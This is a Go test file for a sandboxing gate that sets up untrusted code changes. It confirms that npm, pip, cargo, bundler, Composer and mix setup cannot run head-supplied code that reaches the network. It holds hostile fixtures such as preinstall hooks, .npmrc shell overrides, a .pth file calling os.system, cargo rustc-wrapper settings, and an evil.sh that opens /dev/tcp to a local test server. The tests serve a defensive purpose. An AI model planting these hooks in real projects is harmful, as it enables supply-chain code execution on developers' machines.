package gate

import (
	"archive/zip"
	"bytes"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ycbot/ycbot/internal/evidence"
	"github.com/ycbot/ycbot/internal/sandbox"
	"github.com/ycbot/ycbot/internal/testing/variants"
	"github.com/ycbot/ycbot/internal/workspace"
)

// An index is a registry of the operator's, of npm's and of Python's packages, which also
// counts whom it is asked by that is no package manager: code of the head, at a time when
// it can send something out.
type index struct {
	*registry
	own   *httptest.Server
	wheel []byte
	evil  atomic.Int32
}

func newIndex(t *testing.T) *index {
	t.Helper()
	x := &index{registry: newRegistry(t), wheel: wheel(t)}
	x.own = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/evil":
			x.evil.Add(1)
		case "/yarn.js": // a package manager that the head names
			fmt.Fprint(w, "require('child_process').execFileSync('bash', ['evil.sh'], { stdio: 'inherit' });\n")
		case "/simple/tiny/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<a href="/files/tiny-1.0.0-py3-none-any.whl">tiny-1.0.0-py3-none-any.whl</a>`)
		case "/files/tiny-1.0.0-py3-none-any.whl":
			_, _ = w.Write(x.wheel)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(x.own.Close)
	return x
}

// wheel is that of tiny, which leaves a line that Python runs when it starts.
func wheel(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	const info = "tiny-1.0.0.dist-info/"
	for _, f := range [][2]string{
		{"tiny.py", "one = 1\n"},
		{"tiny.pth", "import os; os.path.exists('evil.sh') and os.system('bash evil.sh')\n"},
		{info + "METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0.0\n"},
		{info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
		{info + "RECORD", "tiny.py,,\ntiny.pth,,\n" + info + "METADATA,,\n" + info + "WHEEL,,\n" + info + "RECORD,,\n"},
	} {
		w, err := z.Create(f[0])
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(f[1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// An assault is a change that has a package manager run a program of the head in setup.
type assault struct {
	needs    string // programs
	base     map[string]string
	head     map[string]string // beside those of the base
	setup    []string          // of the configuration
	unharmed bool              // with a head that is not trusted setup succeeds all the same

	more, locked func(*testing.T, *index) map[string]string // files of the head, and of both, that programs make
	lacks        func(*Toolchains) string                   // what is missing besides programs
	env          []string                                   // the operator's
	managers     bool                                       // with test/managers in the search path, not test/runners
	corepack     bool                                       // with corepack's shim for yarn
	only         []string                                   // with these programs of the system alone
}

func (x *index) assaults() map[string]assault {
	npm := func(manager string, more map[string]string) assault {
		base := map[string]string{}
		for name, data := range x.project(manager, "1.0.0") {
			base[name] = string(data)
		}
		head := map[string]string{"package.json": strings.Replace(base["package.json"], `"scripts": {`, `"scripts": {"preinstall": "bash evil.sh", `, 1)}
		maps.Copy(head, more)
		return assault{needs: "node npm " + manager, base: base, head: head, unharmed: true}
	}
	python := map[string]string{"requirements.txt": "tiny==1.0.0\n", "test_a.py": "import unittest\nclass A(unittest.TestCase):\n    def test(self):\n        import tiny\n"}
	lib := map[string]string{"src/lib.rs": "", "Cargo.toml": "[package]\nname = \"a\"\nversion = \"0.1.0\"\n", "Cargo.lock": "version = 3\n\n[[package]]\nname = \"a\"\nversion = \"0.1.0\"\n"}
	ruby := map[string]string{"Gemfile": "source 'https://rubygems.org'\n", "test/a_test.rb": "\n"}
	mix := "defmodule A.MixProject do\n  use Mix.Project\n  def project, do: [app: :a, version: \"0.1.0\", deps: []]\nend\n"
	composer := map[string]string{
		"phpunit.xml": "<phpunit/>", "composer.json": `{"name": "a/a", "description": "tested with phpunit", "require": {}}`,
	}
	all := map[string]assault{
		"npm":  npm("npm", map[string]string{".npmrc": "ignore-scripts=false\nscript-shell=./evil.sh\ngit=./evil.sh\nnode-options=--require=./evil.js\n"}),
		"pnpm": npm("pnpm", map[string]string{".npmrc": "ignore-scripts=false\nignore-pnpmfile=false\n", ".pnpmfile.cjs": "require('child_process').execFileSync('bash', ['evil.sh'])\nmodule.exports = {}\n"}),
		"yarn": npm("yarn", map[string]string{".yarnrc": "yarn-path \"./evil.js\"\n", "evil.js": "require('child_process').execFileSync('bash', ['evil.sh'])\n"}),
		"npm, git": {
			needs: "node npm git", base: map[string]string{"package.json": `{"name": "m", "version": "1.0.0", "scripts": {"test": "true"}, "dependencies": {"x": "file:x"}}`, "x/package.json": `{"name": "x", "version": "1.0.0"}`},
			head: map[string]string{".npmrc": "git=./evil.sh\n", "package.json": `{"name": "m", "version": "1.0.0", "scripts": {"test": "true"}, "dependencies": {"x": "git+https://127.0.0.1:1/x.git"}}`},
		},
		"pip": {
			needs: "python3", base: python, unharmed: true,
			head: map[string]string{"requirements.txt": "tiny==1.0.0\n--no-binary=:all:\n", "pip.py": runEvil, "venv.py": runEvil, "ensurepip/__main__.py": runEvil, "sitecustomize.py": runEvil},
		},
		"pip, back end": {needs: "python3", base: python, head: map[string]string{"requirements.txt": "tiny==1.0.0\n-e ./a\n", "a/setup.py": runEvil, "a/evil.sh": ""}},
		"cargo":         {needs: "cargo", base: lib, head: map[string]string{".cargo/config.toml": "[build]\nrustc = \"./evil.sh\"\nrustc-wrapper = \"./evil.sh\"\n", "build.rs": ""}, unharmed: true},
		"bundler":       {needs: "ruby bundle", base: ruby, head: map[string]string{"Gemfile": "system('bash evil.sh')\n" + ruby["Gemfile"]}, unharmed: true},
		"Composer": {
			needs: "php composer", base: composer, unharmed: true,
			head: map[string]string{"composer.json": `{"name": "a/a", "description": "tested with phpunit", "require": {}, "scripts": {"post-autoload-dump": "bash evil.sh"}}`},
		},
		"mix": {needs: "elixir mix", base: map[string]string{"mix.exs": mix, "mix.lock": "%{}\n"}, head: map[string]string{"mix.exs": "System.cmd(\"bash\", [\"evil.sh\"])\n" + mix}},
	}
	for _, others := range []map[string]assault{javaAssaults(), poetryAssaults(), x.nodeAssaults()} {
		maps.Copy(all, others)
	}
	return all
}

const runEvil = "import os\nos.system('bash evil.sh')\n"

// Setup of a head that is not trusted runs nothing that the head names while anything can
// be reached: tried with each package manager itself, whose settings, manifests or hooks
// have it run a program that asks the operator's registry. With the network of a trusted
// head each of these programs gets there. make test tries one way for each thing that the gate
// does about them: settings and scripts of a manager, what lies in the tree under its
// name, a manifest that is a program, a wrapper. Others are of the same kinds, and take seconds
// each to start twice.
func TestSetupRunsNothingOfTheHead(t *testing.T) {
	t.Parallel()
	always := []string{"npm", "Composer", "Gradle, wrapper"}
	for name := range (&index{registry: &registry{Server: &httptest.Server{}}, own: &httptest.Server{}}).assaults() {
		variants.Run(t, name, !slices.Contains(always, name), func(t *testing.T) {
			t.Parallel()
			x := newIndex(t)
			for network, open := range map[Network]bool{NetworkSetup: true, NetworkRegistries: false} {
				x.try(t, name, x.assaults()[name], network, open)
			}
		})
	}
}

// Commands of the configuration are the base's words, and what they do is the head's: they
// have no network, and find what was fetched before them.
func TestConfiguredSetupOfAStranger(t *testing.T) {
	t.Parallel()
	x := newIndex(t)
	npm := x.assaults()["npm"]
	npm.setup = []string{"npm ci --no-audit --no-fund", "bash setup.sh"}
	npm.base["setup.sh"] = "test -f node_modules/tiny/index.js\n"
	npm.head["setup.sh"] = npm.base["setup.sh"] + "bash evil.sh\n"
	for network, open := range map[Network]bool{NetworkSetup: true, NetworkRegistries: false} {
		x.try(t, "npm", npm, network, open)
	}
}

func (x *index) try(t *testing.T, name string, a assault, network Network, open bool) {
	t.Helper()
	path := a.path(t)
	home := t.TempDir()
	at := strings.TrimPrefix(x.own.URL, "http://")
	host, port, _ := strings.Cut(at, ":")
	lay(t, home, map[string][]byte{".npmrc": []byte("registry=" + x.URL + "/\n")})
	tools := &Toolchains{Env: []string{"PATH=" + path, "HOME=" + home, "PIP_INDEX_URL=" + x.own.URL + "/simple", "PIP_TRUSTED_HOST=" + host, "PIP_RETRIES=0"}}
	if user, err := os.UserHomeDir(); err == nil {
		tools.Env = append(tools.Env, "RUSTUP_HOME="+filepath.Join(user, ".rustup"))
	}
	tools.Env = append(tools.Env, a.env...)
	a.has(t, name, tools)
	if a.only != nil {
		path = systemPath() // the sandbox has all of the system in any case
	}
	box := fullSandboxOf(t, path)
	evil := fmt.Sprintf("#!/bin/bash\nexec 3<>/dev/tcp/%s/%s && printf 'GET /evil HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' >&3 && cat <&3\nexit 0\n", host, port)
	s := &scenario{base: map[string][]byte{}, head: map[string][]byte{}, input: map[string][]string{}}
	for file, text := range a.base {
		s.base[file], s.head[file] = []byte(text), []byte(text)
	}
	if a.locked != nil {
		for file, text := range a.locked(t, x) {
			s.base[file], s.head[file] = []byte(text), []byte(text)
		}
	}
	if a.more != nil {
		for file, text := range a.more(t, x) {
			s.head[file] = []byte(text)
		}
	}
	for file, text := range a.head {
		if path := []byte(text); filepath.Base(file) != "evil.sh" {
			s.head[file] = path
		}
	}
	s.head["evil.sh"], s.head["a/evil.sh"] = []byte(evil), []byte(evil)
	log := prepared(t, tools, s, a.setup, func(g *Gate) { g.Sandbox, g.Network = box, network })
	if got := x.evil.Swap(0) > 0; got != open {
		t.Errorf("%s, %s: a program of the head could send something: %v", name, network, got)
		show := func(r evidence.Record, o evidence.Output) string { b, _ := log.Output(o); return string(b) }
		for _, r := range log.Records() {
			t.Logf("%s %s exit %d %+v\n%s%s", r.Task, r.Command, r.Exit, r.Hosts, show(r, r.Stdout), show(r, r.Stderr))
		}
	}
	if open || !a.unharmed {
		return
	}
	for _, r := range log.Records() {
		if strings.HasSuffix(r.Task, "/setup") && r.Exit != 0 {
			out, _ := log.Output(r.Stdout)
			more, _ := log.Output(r.Stderr)
			t.Errorf("%s: %s %s: exit %d\n%s%s\n%+v", name, r.Task, r.Command, r.Exit, out, more, r.Hosts)
		}
	}
}

// prepared sets a change up, and returns the log.
func prepared(t *testing.T, tools *Toolchains, s *scenario, setup []string, settings func(*Gate)) *evidence.Log {
	t.Helper()
	w := &world{git: testGit(t), tools: tools, cache: t.TempDir(), shared: t.TempDir()}
	dir := t.TempDir()
	mirror, ch := w.repository(t, s, dir)
	in := Input{Change: ch, Commands: Commands{Setup: setup, Build: []string{}, Lint: []string{}}, Untrusted: true}
	for side, commit := range map[**workspace.Tree]string{&in.Base: ch.MergeBase, &in.Head: ch.HeadSHA} {
		tree, err := mirror.WorktreeLater(t.Context(), filepath.Join(dir, "trees", commit[:7]), commit)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { tree.Close() })
		*side = tree
	}
	log, err := evidence.Open(filepath.Join(dir, "run"), "r", evidence.Options{Now: time.Now})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { log.Close() })
	g := &Gate{Machine: Machine{Log: log, Mirror: mirror, Tools: tools, CacheDir: w.cache, Shared: w.shared, Scratch: filepath.Join(dir, "scratch"), Now: time.Now}}
	settings(g)
	if err := g.Prepare(t.Context(), in); err != nil {
		t.Fatal(err)
	}
	return log
}

// A package manager that no test tries sets up a head that is not trusted in tier full
// alone, and the report names it. A trusted head's setup is as always.
func TestUntestedManagers(t *testing.T) {
	t.Parallel()
	x := newIndex(t)
	host, _, _ := strings.Cut(strings.TrimPrefix(x.own.URL, "http://"), ":")
	programs := t.TempDir()
	path := systemPath() + ":" + programs
	tools := &Toolchains{Env: []string{"PATH=" + path, "HOME=" + t.TempDir(), "PIP_INDEX_URL=" + x.own.URL + "/simple", "PIP_TRUSTED_HOST=" + host}}
	if !tools.Has("python3") {
		t.Skip("python3 is needed")
	}
	if err := os.WriteFile(filepath.Join(programs, "uv"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	base := map[string][]byte{
		"pyproject.toml": []byte("[project]\nname = \"a\"\nversion = \"1\"\ndependencies = [\"tiny\"]\n[tool.uv]\npackage = false\n"),
		"uv.lock":        []byte("version = 1\n\n[[package]]\nname = \"tiny\"\nversion = \"1.0.0\"\n"), "test_a.py": []byte("import unittest\nclass A(unittest.TestCase):\n    def test(self):\n        pass\n"),
	}
	for _, tt := range []struct {
		tier       sandbox.Tier
		network    Network
		runs, said bool
	}{
		{sandbox.TierFull, NetworkRegistries, true, true},
		{sandbox.TierFull, NetworkSetup, true, false},
		{sandbox.TierBasic, NetworkRegistries, false, true},
	} {
		variants.Run(t, string(tt.tier)+" "+string(tt.network), tt.tier == sandbox.TierFull && tt.said, func(t *testing.T) {
			t.Parallel()
			box := sandboxOf(t, tt.tier, path)
			res := judge(t, tools, &scenario{base: base, head: map[string][]byte{"a.py": []byte("one = 1\n")}}, func(g *Gate) {
				g.Sandbox, g.Network, g.Limits = box, tt.network, Limits{Mutation: -1}
			})
			runs := slices.ContainsFunc(res.Steps, func(s Step) bool { return s.Stage == StageSetup })
			said := slices.ContainsFunc(slices.Concat(res.Notes, res.Reasons), func(l string) bool { return strings.Contains(l, "setup by uv") && strings.Contains(l, "untested") })
			if runs != tt.runs || said != tt.said || !runs && res.Verdict == Pass {
				t.Errorf("setup ran: %v, said: %v\n%s\n%q", runs, said, facts(res), res.Notes)
			}
		})
	}
}
